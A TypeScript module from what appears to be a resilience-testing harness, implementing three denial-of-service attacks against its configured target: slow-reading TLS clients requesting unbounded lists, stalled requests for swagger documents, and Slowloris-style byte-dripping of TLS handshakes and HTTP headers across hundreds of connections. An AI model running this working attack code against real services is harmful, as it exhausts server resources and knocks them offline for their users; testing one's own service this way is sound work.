/** Attacks with connections that do little: they read nothing of what they asked for, or never finish asking. */
import { connect as connectPlain } from 'node:net';
import type { Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { setTimeout as delay } from 'node:timers/promises';
import type { Target } from '../load.js';
import { CLIENT, MANAGEMENT, requestBytes } from '../world.js';
import { get } from './attack.js';
import type { Attack, AttackContext, Statuses } from './attack.js';
import { servicesWith } from './world.js';

const LIST_READERS = 24;
/** How long such a reader waits before it looks for the status and asks again. */
const STILL_MS = 4_000;
const LOOK_MS = 2_000;
const SLOW_EACH = 300;
const STEP_MS = 500;

class Count {
  readonly statuses: Record<number, number> = {};

  add(status: number): void {
    this.statuses[status] = (this.statuses[status] ?? 0) + 1;
  }
}

function openTls({ host, port }: Target): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = connectTls({ host, port, rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] });
    socket.once('secureConnect', () => {
      socket.off('error', reject);
      socket.on('error', () => undefined);
      resolve(socket);
    });
    socket.once('error', reject);
  });
}

/** Opens so many, a few at a time; one that is refused counts as status 0. */
async function openAll(count: number, open: () => Promise<Socket>, into: Count): Promise<Socket[]> {
  const sockets: Socket[] = [];
  let left = count;
  const lane = async () => {
    for (; left > 0;) {
      left -= 1;
      await open().then(
        (socket) => sockets.push(socket),
        () => {
          into.add(0);
        },
      );
    }
  };
  await Promise.all(Array.from({ length: Math.min(16, count) }, lane));
  return sockets;
}

/** Reads the first line of what came, and ends the connection. @returns 0 when there is none */
async function statusOf(socket: Socket): Promise<number> {
  const status = await new Promise<number>((resolve) => {
    const timer = setTimeout(() => {
      resolve(0);
    }, LOOK_MS);
    const done = (found: number) => {
      clearTimeout(timer);
      resolve(found);
    };
    socket.once('data', (chunk: Buffer) => {
      done(Number(/^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1', 0, 16))?.[1] ?? 0));
    });
    socket.once('close', () => {
      done(0);
    });
    socket.resume();
  });
  socket.destroy();
  return status;
}

/** A reader that asks, waits, leaves, and comes again until `until`. */
async function standStill({ target }: { target: Target }, bytes: Buffer, until: number, into: Count): Promise<void> {
  while (Date.now() < until) {
    try {
      const socket = await openTls(target);
      socket.pause();
      socket.write(bytes);
      await delay(Math.max(0, Math.min(STILL_MS, until - Date.now())));
      into.add(await statusOf(socket));
    } catch {
      into.add(0);
      await delay(STEP_MS);
    }
  }
}

export const stillLists: Attack = {
  name: 'lists not read',
  sends: () => `${LIST_READERS} readers of limit=-1 that read nothing for ${STILL_MS / 1000} s, and come again`,
  async run({ world, seconds }): Promise<Statuses> {
    const bytes = requestBytes(world, get(servicesWith('limit=-1'), world.attacker.client.token));
    const count = new Count();
    const until = Date.now() + seconds * 1000;
    await Promise.all(Array.from({ length: LIST_READERS }, () => standStill(world, bytes, until, count)));
    return count.statuses;
  },
};

const DOCUMENTS = ['/docs/swagger-ui-bundle.js', `${MANAGEMENT}/swagger.json`, `${CLIENT}/swagger.json`];

export const stillDocuments: Attack = {
  name: 'documents not read',
  sends: ({ readers }) => `${readers} connections that ask for swagger-ui-bundle.js or swagger.json and read nothing`,
  async run({ world, seconds, readers }): Promise<Statuses> {
    const count = new Count();
    const until = Date.now() + seconds * 1000;
    let next = 0;
    const sockets = await openAll(
      readers,
      async () => {
        const socket = await openTls(world.target);
        socket.pause();
        socket.write(requestBytes(world, get(DOCUMENTS[next++ % DOCUMENTS.length] ?? '', undefined)));
        return socket;
      },
      count,
    );
    await delay(Math.max(0, until - Date.now()));
    for (const status of await Promise.all(sockets.map(statusOf))) count.add(status);
    return count.statuses;
  },
};

/** The start of a TLS record that promises 512 bytes of a handshake. */
const HELLO = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]);
const HEADERS = Buffer.from(`GET ${CLIENT}/version HTTP/1.1\r\nhost: slow\r\nx-slow: `);

function openPlain({ host, port }: Target): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = connectPlain({ host, port });
    socket.on('error', reject);
    socket.once('connect', () => {
      resolve(socket);
    });
  });
}

/** One byte to each connection every half second; the last are repeated. */
async function drip(sockets: readonly Socket[], bytes: Buffer, until: number): Promise<void> {
  for (let step = 0; Date.now() < until; step += 1) {
    const byte = bytes.subarray(step % bytes.length, (step % bytes.length) + 1);
    for (const socket of sockets) if (socket.writable) socket.write(byte);
    await delay(STEP_MS);
  }
}

export const slowSenders: Attack = {
  name: 'slow handshakes, headers',
  sends: () =>
    `${SLOW_EACH} connections with a byte of a handshake, and ${SLOW_EACH} with one of headers, ` +
    `every ${STEP_MS / 1000} s`,
  leastSeconds: 13,
  async run({ world, seconds }: AttackContext): Promise<Statuses> {
    const count = new Count();
    const until = Date.now() + seconds * 1000;
    const shaking = await openAll(SLOW_EACH, () => openPlain(world.target), count);
    const asking = await openAll(SLOW_EACH, () => openTls(world.target), count);
    for (const socket of asking)
      socket.once('data', (chunk: Buffer) => {
        count.add(Number(chunk.toString('latin1', 9, 12)));
      });
    for (const socket of shaking)
      socket.once('close', () => {
        count.add(0);
      });
    await Promise.all([drip(shaking, HELLO, until), drip(asking, HEADERS, until)]);
    for (const socket of shaking) socket.removeAllListeners('close');
    for (const socket of [...shaking, ...asking]) socket.destroy();
    return count.statuses;
  },
};
